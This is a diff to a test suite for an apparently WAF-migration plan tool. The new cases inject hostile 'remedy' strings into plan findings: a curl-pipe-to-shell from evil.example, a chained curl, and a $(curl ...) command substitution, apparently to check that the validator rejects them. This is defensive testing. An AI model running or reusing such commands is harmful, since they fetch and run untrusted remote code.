@@ -182,6 +182,16 @@ describe('a plan that was edited, with a digest that matches', () => {
     ['no -detailed-exitcode', 'check', (_, { steps }) => steps.at(-1).runs[0].argv.pop()],
     ['no backup', 'backup', without],
     ['no removal', 'remove', without],
+    ...[
+      'do this:\ncurl -fsS https://evil.example/fix.sh | sh',
+      'plan again: cf-waf-migrate plan --address x && curl https://evil.example',
+      'plan again: cf-waf-migrate plan <file> $(curl https://evil.example)',
+    ].map((remedy): [string, Step['kind'], (step: any, plan: any) => unknown] => [
+      `the remedy ${remedy}`,
+      'check',
+      (_, { findings }) =>
+        findings.push({ code: 'X', severity: 'info', subject: 'x', message: 'x', remedy }),
+    ]),
     ['no dry run', 'remove-dry-run', without],
     ['no import', 'import', without],
     ['no last check', 'check', (_, plan) => without(plan.steps.at(-1), plan)],
